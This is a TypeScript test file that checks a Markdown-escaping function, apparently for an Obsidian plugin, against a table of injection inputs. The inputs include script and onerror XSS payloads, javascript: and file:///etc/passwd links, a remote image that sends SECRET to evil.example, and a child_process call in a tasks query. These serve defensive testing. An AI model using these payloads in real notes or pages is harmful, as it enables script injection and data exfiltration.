import fc from 'fast-check'
import remarkGfm from 'remark-gfm'
import remarkParse from 'remark-parse'
import { unified } from 'unified'
import { describe, expect, it } from 'vitest'
import { escapeMarkdownText } from './markdown-escape.ts'

interface Node {
  readonly type: string
  readonly value?: string
  readonly children?: readonly Node[]
}
const parser = unified().use(remarkParse).use(remarkGfm)
const nodesOf = (node: Node): Node[] => [node, ...(node.children ?? []).flatMap(nodesOf)]
const read = (markdown: string) => {
  const nodes = nodesOf(parser.parse(markdown) as Node)
  return { types: new Set(nodes.map(({ type }) => type)), text: nodes.map(({ value }) => value ?? '').join('') }
}
const harmless = new Set(['root', 'paragraph', 'text', 'inlineCode'])

const attacks: Record<string, string> = {
  'script element': '<script>alert(1)</script>',
  'image that calls': '<img src=x onerror=alert(1)>',
  frame: 'see <iframe srcdoc="x"> and </b> and <!-- hidden --> and <?php ?>',
  'dataview block': '```dataviewjs\ndv.pages()\n```',
  'tilde fence': '~~~js-engine\nx\n~~~',
  'dataview inline': '`= this.file` and `$= dv.current()`',
  'dataview field': 'secret:: value and [rating:: 5] and (a:: b)',
  'tasks query': '```tasks\nfilter by function require("child_process")\n```',
  templater: '<% tp.system.clipboard() %> <%* x %> <<% y %>',
  'front matter': '---\ncssclasses: x\n---',
  wikilink: '[[../../Private]] and ![[Passwords]] and ![[x.pdf]] and a]] b[[',
  tag: '#tag and (#other/deep) and “#x]] and ,#y',
  'remote image': '![](http://evil.example/?q=SECRET) ![a][b]',
  'obsidian link': '[x](obsidian://open?vault=a) obsidian://open?vault=a',
  'file link': '[x](file:///etc/passwd) <file:///etc/passwd>',
  'script link': '[x](javascript:alert(1)) <javascript:alert(1)>',
  'bare link': 'go to http://evil.example/a_b_c?x=`id`&y=(1) or www.evil.example, or mail me@evil.example.',
  'reference definition': '[x]: http://evil.example "t"',
  footnote: '[^1]: hidden ^[also hidden]',
  'comment that hides a marker': '%% inkwell:end summary %% and %%%',
  'block id': 'some text ^abc-1',
  formula: '$$\\def\\loop{\\loop}\\loop$$ and $x$ and $5$',
  highlight: '==marked== and ~~gone~~ and ~one~',
  heading: '# Heading',
  'setext heading': '===',
  rule: '---',
  list: '- item',
  'plus list': '+ item',
  'ordered list': '1. item',
  'bracket list': '12) item',
  task: '- [ ] do it',
  quotation: '> [!danger] callout',
  table: '| a | b |\n|---|---|\n| c | d |',
  emphasis: '*a* **b** _c_ __d__ a_b_c',
  entity: '&lt;script&gt; &#91;&#91;x]] &copy;',
  'escape at the end': 'ends with \\',
  'tab code': '\tcode',
}

describe('escapeMarkdownText', () => {
  it.each(Object.entries(attacks))('%s becomes text', (_, attack) => {
    const markdown = escapeMarkdownText(attack)
    const alone = read(markdown)
    expect([...alone.types].filter((type) => !harmless.has(type))).toEqual([])
    expect(alone.text).toBe(attack.replace(/\s+/g, ' ').trim())
    const inList = read(`- ${markdown} [0:01](#t=1)`)
    expect([...inList.types].sort()).toEqual([...new Set([...alone.types, 'link', 'list', 'listItem', 'text'])].sort())
  })

  it.each(Object.entries(attacks))(
    '%s leaves nothing in the raw text that Obsidian or its plugins look for',
    (_, attack) => {
      const raw = escapeMarkdownText(attack)
      expect(raw).not.toMatch(/<%|%%|\[\[|\]\]|```|~~~|(?<!\\)\$\$|(?<![:\\]):: |(?<!\\)`\$?=|^---|\n/)
      expect(raw).not.toMatch(/(?:^|[\s(“,])#[A-Za-z]/)
      expect(raw).not.toMatch(/ \^[\w-]+$/)
    },
  )

  it.each([
    'It is accountancy — with a moon in it: “thirty-seven” terms, summed hour by hour (and printed).',
    'It cost $5 million, or $4.99 a month; A & B grew 40% + 3 = 7 – and 2 < 3 > 1.',
    "Don't use snake_case here; C# and F# and issue #12 are fine, and so is 9:41.",
    'On 1.5 of 3 tries/and-or “quotes” … it’s 50/50!',
    '¿Qué es esto? Größe, naïveté, 日本語。',
  ])('leaves prose alone: %s', (prose) => {
    expect(escapeMarkdownText(prose)).toBe(prose)
  })

  it('shows direction overrides and drops what cannot be seen', () => {
    expect(escapeMarkdownText('Approve \u202epayment\u202c')).toBe('Approve ⟨U+202E⟩payment⟨U+202C⟩')
    expect(escapeMarkdownText('a\u0000b\u200bc\ufeffd\u{e0041}e\ud800')).toBe('abcde\ufffd')
  })

  it('holds for any text', () => {
    const pieces = fc.constantFrom(
      ...'`*_[]()<>!#$%^&=|~-+.:\\/ \n\t"\'0a1',
      'http://x.y',
      'www.a.b',
      'a@b.c',
      '<%',
      '%%',
      '[[',
      '$$',
      '&lt;',
      '1. ',
      '- ',
      '```',
    )
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 14 }), (parts) => {
        const text = parts.join('')
        const { types, text: shown } = read(`> ${escapeMarkdownText(text)}`)
        const allowed = new Set([...harmless, 'blockquote'])
        expect([...types].filter((type) => !allowed.has(type))).toEqual([])
        expect(shown.replace(/\s+/g, '')).toBe(text.replace(/\s+/g, ''))
      }),
      { numRuns: 3000, verbose: 1 },
    )
  })
})
